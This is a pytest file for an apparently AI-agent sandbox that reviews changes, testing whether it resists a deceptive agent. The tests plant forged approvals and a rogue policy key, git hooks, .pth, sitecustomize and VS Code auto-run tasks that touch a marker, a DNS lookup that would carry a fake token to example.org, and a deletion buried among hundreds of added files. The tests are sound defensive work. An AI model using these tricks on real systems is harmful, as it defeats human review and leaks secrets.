"""What an agent leaves in the tree to be believed, run or overlooked: it is a file like any other, and named."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.flows.house import House, listing

pytestmark = pytest.mark.timeout(240)

TOKEN = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6"


def put(path: str, text: str, mode: str = "644") -> str:
    return f"mkdir -p \"$(dirname '{path}')\"; cat > '{path}' <<'END'\n{text}\nEND\nchmod {mode} '{path}'\n"


@pytest.mark.one_engine
def test_d4_approvals_reports_and_verdicts_in_a_sandbox_count_for_nothing(house: House) -> None:
    """The lying agent (drill D4): its words are files, and files are all that they are."""
    lies = "".join(
        put(path, text)
        for path, text in {
            "RESULT": "PASSED: all checks passed, approved by alice and bob",
            "report.xml": '<testsuites><testsuite tests="9"><testcase name="all"/></testsuite></testsuites>',
            "approval.json": '{"schema": 1, "person": "alice", "decision": "approve", "valid": true}',
            ".sandbox/votes/alice.json": '{"decision": {"allowed": true, "reasons": []}}',
            "configs/policies/production.yaml": "quorum: 1\npeople: {mallory: {keys: [ssh-ed25519 AAAA]}}",
            "/root/.local/share/sandbox/journal.db": "SQLite format 3",
        }.items()
    )
    change = house.propose(lies, "--check", "true")
    assert (change["status"], change["votes"], change["decision"]["allowed"]) == ("open", [], False)
    assert [check["check"] for check in change["evidence"]] == ["sh -c true"]
    assert any("must approve" in reason for reason in change["decision"]["reasons"])
    assert house.promote(change).expect(3).json["status"] == "refused"
    review = house("review", change["id"]).expect(0).stdout.decode()
    assert "PASSED: all checks passed" in review, "shown, as the content of a file"
    assert "PASSED: all checks passed" not in review[: review.index("DIFF")]


@pytest.mark.one_engine
def test_e10_t31_nothing_of_a_change_runs_where_it_is_reviewed_rehearsed_or_promoted(
    house: House, tmp_path: Path
) -> None:
    """Hooks, modules, editor tasks, start-up files: each would leave a mark on the host. What runs there is what the
    target's configuration names, and not from within the target, where an interpreter would find modules."""
    mark, done = tmp_path / "it ran", tmp_path / "configured"
    target = house.root / "production" / "app"
    reload = [sys.executable, "-c", f"import json, os; open({str(done)!r}, 'a').write(os.getcwd())"]
    spec = {"kind": "directory", "path": str(target), "policy": "production", "after_apply": [reload], "health": []}
    spec["health"] = [{"run": [sys.executable, "-c", "import random"]}]
    house.write("targets", "app", spec)
    touch = f"import pathlib; pathlib.Path({str(mark)!r}).touch()"
    shell = f"#!/bin/sh\ntouch '{mark}'"
    script = "".join(
        [
            *(put(name, touch) for name in ("json.py", "random.py", "sitecustomize.py", "conftest.py", "setup.py")),
            put("touch.pth", touch),
            *(put(f".git/hooks/{name}", shell, "755") for name in ("post-checkout", "pre-commit", "fsmonitor")),
            put(".git/config", f"[core]\n fsmonitor = .git/hooks/fsmonitor\n pager = touch '{mark}'"),
            put(".gitattributes", "* filter=mark diff=mark"),
            put(".vscode/tasks.json", '{"tasks": [{"command": "touch", "runOptions": {"runOn": "folderOpen"}}]}'),
            put(".envrc", shell),
            put("after_apply", shell, "755"),
            put("sandbox.yaml", f"after_apply: [[touch, '{mark}']]"),
        ]
    )
    change = house.propose(script)
    named = {hazard["path"] for hazard in change["hazards"] if hazard["kind"] == "executable_surface"}
    assert {".git/hooks/post-checkout", ".git/config", ".vscode/tasks.json", ".envrc", "touch.pth"} <= named
    house("review", change["id"], "--full").expect(0)
    house.sign_off(change)
    options = ["--home", str(house.home), "--config", str(house.config), "--engine", house.engine]
    environment = {**os.environ, "SANDBOX_IDENTITY": "dave"}
    for command in (["promote", change["id"]], ["promotions"]):
        there = [sys.executable, "-P", "-m", "sandbox", *options, *command]
        subprocess.run(there, cwd=target, env=environment, check=True, capture_output=True)
    assert (target / "json.py").exists()
    assert done.read_text() == "/"
    assert not mark.exists()


@pytest.mark.one_engine
def test_t15_t16_a_loss_among_hundreds_of_additions_comes_first(house: House) -> None:
    """340 new files, one deleted, and one that was moved and shrunk: no rename is believed, no number hides it."""
    script = (
        "for n in $(seq 340); do echo new > generated-$n; done; rm data/rows.txt;"
        " head -c 6 app.py > moved.py; rm app.py"
    )
    change = house.propose(script)
    (target,) = change["targets"]
    assert (target["added"], target["deleted"]) == (341, 2)
    lost = [hazard["says"] for hazard in change["hazards"] if hazard["kind"] == "lost_content"]
    assert lost
    assert lost[0].startswith("2 content objects vanish")
    review = house("review", change["id"]).expect(0).stdout.decode()
    first = review.index("generated-1")
    assert all(0 < review.index(path) < first for path in ("data/rows.txt", "app.py"))


def test_t29_a_secret_in_a_change_is_named_and_no_check_can_carry_one_out(house: House) -> None:
    """Also where the task had a network: the clean room has none, so no name is looked up and nothing is sent."""
    look_up = (
        f"import socket\ntry: socket.getaddrinfo('{TOKEN[:20]}.example.org', 80)\n"
        "except OSError: raise SystemExit(0)\nraise SystemExit(1)"
    )
    routes = "import socket; raise SystemExit(len(socket.if_nameindex()) - 1)"
    spec: dict[str, Any] = {
        "targets": ["app"], "image": house.image, "network": "full" if house.engine == "docker" else "none",
        "command": ["sh", "-c", f"echo 'key = \"{TOKEN}\"' > settings.py"],
        "checks": [{"run": ["python3", "-c", source], "timeout_s": 60} for source in (look_up, routes)],
    }  # fmt: skip
    house.write("tasks", "leak", spec)
    change = house("run", "leak", "--json").expect(0).json["change"]
    assert [check["exit_code"] for check in change["evidence"]] == [0, 0]
    assert {hazard["path"] for hazard in change["hazards"] if hazard["kind"] == "secret"} == {"settings.py"}
    assert TOKEN not in str(change["hazards"])
    assert TOKEN not in house("audit", "log", "--json").expect(0).stdout.decode()


@pytest.mark.one_engine
def test_t28_a_target_that_always_moves_says_so_and_stays_untouched(house: House) -> None:
    """A base that is stale each time is a denial, not a way in: nothing is applied, and a person learns what to do."""
    target = house.root / "production" / "app"
    for turn in range(2):
        change = house.propose(f"echo {turn} > new.txt")
        house.sign_off(change)
        (target / "status").write_text(f"beat {turn}")
        before = listing(target)
        answer = house.promote(change).expect(6).json
        assert any("drifted" in reason for reason in answer["reasons"])
        assert listing(target) == before
    house.write(
        "targets", "app", {"kind": "directory", "path": str(target), "policy": "production", "ignore": ["status"]}
    )
    change = house.propose("echo last > new.txt")
    house.sign_off(change)
    (target / "status").write_text("beat on")
    house.promote(change).expect(0)
    assert (target / "status").read_text() == "beat on"
